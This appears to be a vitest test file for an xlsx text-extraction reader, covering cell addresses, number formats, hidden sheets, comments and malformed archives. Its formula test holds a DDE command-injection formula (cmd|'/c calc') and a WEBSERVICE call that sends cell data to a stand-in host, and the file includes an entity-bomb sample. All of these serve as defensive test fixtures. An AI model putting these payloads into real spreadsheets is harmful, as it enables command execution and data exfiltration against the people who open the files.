import { describe, expect, it } from 'vitest';
import { makeXlsx } from '../../../test/documents/make-office.ts';
import { blocksOf, codes, readAll, readRoot } from '../../../test/documents/read-bytes.ts';

const row = (n: number, cells: string, attributes = '') => `<row r="${n}" ${attributes}>${cells}</row>`;
const text = (address: string, value: string) => `<c r="${address}" t="inlineStr"><is><t>${value}</t></is></c>`;
const number = (address: string, value: string, style = 0) => `<c r="${address}" s="${style}"><v>${value}</v></c>`;
const sheet = (rows: string, around = { before: '', after: '' }) =>
  `${around.before}<sheetData>${rows}</sheetData>${around.after}`;

describe('xlsx', () => {
  it('leads every cell back to its sheet and address', async () => {
    const rows = row(7, `<c r="B7" t="s"><v>0</v></c>${text('D7', 'Borvik Ltd')}${number('AA7', '5')}`);
    const document = await readRoot(
      makeXlsx([{ name: 'Payments 2031', xml: sheet(rows) }], { strings: ['Novik'] }),
      'a.xlsx',
    );
    const block = document.blocks[1]!;
    expect([block.kind, block.place]).toEqual(['table-row', 'sheet «Payments 2031», row 7, B7:AA7']);
    expect(block.cells?.map(({ start, end, address }) => [address, document.text.slice(start, end)])).toEqual([
      ['B7', 'Novik'],
      ['D7', 'Borvik Ltd'],
      ['AA7', '5'],
    ]);
    expect(blocksOf(document)[0]).toBe('heading: Payments 2031');
    expect(document).toMatchObject({ status: 'parsed', problems: [] });
  });

  it.each([
    ['General', '40702810900000012345678901234567890', '40702810900000012345678901234567890', undefined],
    ['General', '0.30000000000000004', '0.30000000000000004', undefined],
    ['General', '1.5E-7', '1.5E-7', undefined],
    ['#,##0.00', '1234567.891', '1234567.891', undefined],
    ['0000000000', '123456789', '0123456789', '123456789'],
    ['#,##0.00 "EUR"', '1250000.5', '1250000.5 EUR', '1250000.5'],
    ['[$€-2] #,##0', '7', '€ 7', '7'],
    ['0.0%', '0.12345', '12.345%', '0.12345'],
    ['yyyy\\-mm\\-dd', '45360', '2024-03-09', '45360'],
    ['d/m/yy h:mm', '45360.5', '2024-03-09 12:00', '45360.5'],
    ['[h]:mm', '1.5', '36:00', '1.5'],
    ['h:mm:ss', '0.25', '06:00', '0.25'],
    ['[Red]0.00', '5.10', '5.10', undefined],
    ['"Pay" 0', '5', 'Pay 5', '5'],
    ['yyyy', '-3', '-3', undefined],
  ])('%s shows %s as %s', async (format, stored, shown, raw) => {
    const document = await readRoot(
      makeXlsx([{ name: 'S', xml: sheet(row(1, number('A1', stored, 1))) }], { formats: [format] }),
      'a.xlsx',
    );
    expect(blocksOf(document)[1]).toBe(`table-row: ${shown}`);
    expect(document.blocks[1]?.cells?.[0]?.raw).toBe(raw);
  });

  it('keeps hidden sheets, rows and columns and flags them', async () => {
    const rows = `${row(1, text('A1', 'Seen'))}${row(2, text('A2', 'Unseen'), 'hidden="1"')}${row(3, text('B3', 'Aside'))}`;
    const document = await readRoot(
      makeXlsx([
        { name: 'Open', xml: sheet(rows, { before: '<cols><col min="2" max="2" hidden="1"/></cols>', after: '' }) },
        { name: 'Secret', xml: sheet(row(1, text('A1', 'Second books'))), state: 'veryHidden' },
      ]),
      'a.xlsx',
    );
    const hidden = document.problems.map(({ span }) => document.text.slice(span?.start, span?.end));
    expect(hidden).toEqual(['Unseen', '\tAside', 'Secret\n\nSecond books']);
    expect(new Set(codes(document))).toEqual(new Set(['hidden-text']));
    expect(document.status).toBe('parsed');
  });

  it('shows what a formula came to, and follows none', async () => {
    const cells = `<c r="A1"><f>WEBSERVICE("http://x.example/"&amp;B1)</f><v>8</v></c><c r="B1"><f>SUM(C1:C2)</f><v>3</v></c><c r="C1"><f>cmd|'/c calc'!A0</f></c>`;
    const document = await readRoot(makeXlsx([{ name: 'S', xml: sheet(row(1, cells)) }]), 'a.xlsx');
    expect(blocksOf(document)[1]).toBe("table-row: 8\t3\t=cmd|'/c calc'!A0");
    expect(document.blocks[1]?.cells?.map(({ formula }) => formula)).toEqual([
      'WEBSERVICE("http://x.example/"&B1)',
      'SUM(C1:C2)',
      "cmd|'/c calc'!A0",
    ]);
    expect(codes(document)).toEqual(['active-content']);
    expect(document.problems[0]?.detail).toMatch(/^2 formulas refer/);
  });

  it('reads notes, threads and links of cells as blocks of their own', async () => {
    const document = await readRoot(
      makeXlsx(
        [
          {
            name: 'S',
            xml: sheet(row(1, text('A1', 'Sum')), {
              before: '',
              after: '<hyperlinks><hyperlink ref="A1" r:id="h"/></hyperlinks>',
            }),
            relations: [
              ['c', 'comments', '../comments1.xml'],
              ['t', 'threadedComment', '../threads/t1.xml'],
              ['h', 'hyperlink', 'https://borvik.example/'],
            ],
          },
        ],
        {
          parts: {
            'xl/comments1.xml':
              '<comments><authors><author>V. Novik</author></authors><commentList><comment ref="A1" authorId="0"><text><r><t>Paid in cash</t></r></text></comment><comment ref="B2" authorId="0"><text><t>[Threaded]</t></text></comment></commentList></comments>',
            'xl/threads/t1.xml':
              '<ThreadedComments><threadedComment ref="B2" personId="{1}"><text>Which bank?</text></threadedComment></ThreadedComments>',
            'xl/persons/person.xml': '<personList><person id="{1}" displayName="O. Tarn"/></personList>',
          },
        },
      ),
      'a.xlsx',
    );
    expect(
      document.blocks.slice(2).map(({ place, span }) => [place, document.text.slice(span.start, span.end)]),
    ).toEqual([
      ['sheet «S», comment on A1', 'link: https://borvik.example/'],
      ['sheet «S», comment on A1', 'V. Novik: Paid in cash'],
      ['sheet «S», comment on B2', 'O. Tarn: Which bank?'],
    ]);
  });

  it('takes a used range of the whole sheet for what is in it', async () => {
    const rows = `${row(1, text('A1', 'First'))}${row(1_048_576, text('XFD1048576', 'Last'))}`;
    const document = await readRoot(
      makeXlsx([{ name: 'S', xml: `<dimension ref="A1:XFD1048576"/>${sheet(rows)}` }]),
      'a.xlsx',
    );
    expect(document.blocks.at(-1)?.place).toBe('sheet «S», row 1048576, XFD1048576');
    expect(document.text.length).toBeLessThan(50);
  });

  it('gives embedded files as documents, an object unpacked where it can be', async () => {
    const items = await readAll(
      makeXlsx([{ name: 'S', xml: sheet('') }], { parts: { 'xl/embeddings/note.txt': 'Enclosed words.' } }),
      'a.xlsx',
    );
    expect(items.map(({ document }) => [document.text, document.parent?.place])).toEqual([
      ['', undefined],
      ['Enclosed words.', 'xl/embeddings/note.txt'],
    ]);
    expect(codes(items[0]!.document)).toEqual(['no-text']);
  });

  it.each([
    ['an entity bomb', { 'xl/sharedStrings.xml': '<!DOCTYPE x [<!ENTITY a "aa">]><sst/>' }, 'refused', 'malformed'],
    [
      'a sheet that is cut off',
      { 'xl/worksheets/sheet1.xml': `<worksheet><sheetData>${row(1, text('A1', 'Kept'))}<row r="2"><c r=` },
      'partial',
      'malformed',
    ],
    [
      'a sheet that is missing',
      { 'xl/_rels/workbook.xml.rels': '<Relationships/>', 'xl/worksheets/sheet1.xml': '' },
      'partial',
      'malformed',
    ],
  ])('says what is wrong with %s', async (_, parts, status, code) => {
    const document = await readRoot(makeXlsx([{ name: 'S', xml: sheet('') }], { parts }), 'a.xlsx');
    expect([document.status, codes(document)[0]]).toEqual([status, code]);
  });

  it('does not unpack a sheet beyond the limit', async () => {
    const document = await readRoot(makeXlsx([{ name: 'S', xml: ' '.repeat(30_000_000) }]), 'a.xlsx', {
      limits: { maxRatio: 1 },
    });
    expect([document.status, document.text]).toEqual(['partial', '']);
    expect(codes(document)).toEqual(expect.arrayContaining(['malformed', 'archive-entry-refused', 'no-text']));
  });
});
